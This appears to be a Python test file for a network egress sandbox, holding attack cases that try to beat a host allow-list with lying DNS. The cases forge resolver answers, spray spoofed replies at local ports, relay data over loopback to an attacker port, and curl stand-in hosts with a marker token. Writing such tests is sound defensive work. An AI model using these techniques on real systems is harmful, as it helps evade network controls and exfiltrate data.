"""Class 10: answers that lie. lie.example is served by the attacker; see LIES in rig/attacker.py."""

import contextlib
import pathlib
import socket
import threading

from rig.attacks import ATTACKER, Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER

HOSTS = f"{RESOLVER}:53/udp\n*.lie.example:80|443|4444|7777\nwww.allowed.example:80|443\n"


def fetch(label, host, **more):
    return Attack(label, f"curl -sS -m 4 http://{host}/$MARKER", shell=True, policy=HOSTS, **more)


def relay(case, marker):
    """A service of the machine's own, on loopback, that hands on what it is told."""
    listener = socket.create_server(("127.0.0.1", 7777))
    listener.settimeout(3)

    def serve():
        with listener, contextlib.suppress(OSError):
            inner, _ = listener.accept()
            inner.settimeout(3)
            with inner, socket.create_connection((ATTACKER, 4444), 3) as outer:
                outer.sendall(inner.recv(1000))
    threading.Thread(target=serve, daemon=True).start()


def open_ports(case, marker):
    """As in containers: everybody may bind port 53."""
    path = pathlib.Path("/proc/sys/net/ipv4/ip_unprivileged_port_start")
    case.addCleanup(path.write_text, path.read_text())
    path.write_text("0")


# Is the resolver that the policy allows, then asks itself.
OWN_RESOLVER = """
import threading
wanted = query("www.allowed.example")
def answer(q): return q[:2] + b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + wanted[12:] \\
    + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton(ATTACKER)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.53", 53)); u.settimeout(None)
t = socket.create_server(("127.0.0.53", 53)); t.settimeout(None)
def serve_udp():
    while True:
        q, peer = u.recvfrom(600)
        try: u.sendto(answer(q), peer)
        except OSError: pass
def serve_tcp():
    while True:
        c, _ = t.accept(); q = c.recv(600)
        c.sendall(struct.pack(">H", len(answer(q[2:]))) + answer(q[2:]))
for serve in (serve_udp, serve_tcp): threading.Thread(target=serve, daemon=True).start()
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(wanted, ("127.0.0.53", 53)); s.recv(500)
except OSError: pass
try:
    s = socket.create_connection(("127.0.0.53", 53)); s.sendall(struct.pack(">H", len(wanted)) + wanted)
    s.recv(500)
except OSError: pass
tcp()"""

ATTACKS = [
    Attack("its own resolver", OWN_RESOLVER, policy="127.0.0.53:53/udp\nwww.allowed.example:*\n",
           prepare=open_ports),
    fetch("the metadata service", "metadata.lie.example"),
    fetch("a private address", "private.lie.example"),
    Attack("loopback", "curl -sS -m 4 http://loopback.lie.example:7777/$MARKER", shell=True, policy=HOSTS,
           prepare=relay),
    Attack("an alias out of the zone", "curl -sS -m 4 http://www.evil.example/$MARKER; "
           f"getent hosts alias.lie.example; curl -sS -m 4 -H 'Host: www.evil.example' http://{ATTACKER}/$MARKER",
           shell=True, policy=f"{RESOLVER}:53/udp\ndns:*.lie.example\nwww.evil.example:80\n"
           .replace("www.evil.example:80", "https://www.evil.example/*")),
    Attack("records that nobody asked for", "getent hosts extra.lie.example; getent hosts extra.lie.example; "
           f"curl -sSk -m 4 --resolve www.allowed.example:443:{ATTACKER} https://www.allowed.example/$MARKER; "
           f"curl -sS -m 4 --resolve www.allowed.example:80:{ATTACKER} http://www.allowed.example/$MARKER",
           shell=True, policy=HOSTS, silent=False),
    Attack("an answer of the program's own", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40666))
s.sendto(query("www.allowed.example"), ("{RESOLVER}", 53))
fake = query("www.allowed.example")[:2] + b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + query("www.allowed.example")[12:] \\
    + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton(ATTACKER)
for line in open("/proc/net/udp").readlines()[1:]:
    try: s.sendto(fake, ("127.0.0.1", int(line.split()[1].split(":")[1], 16)))
    except OSError: pass
os.system(f"curl -sS -m 4 --resolve www.allowed.example:80:{{ATTACKER}} http://www.allowed.example/{{MARKER}}")""",
           policy=HOSTS),
]


@expand
class Lies(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
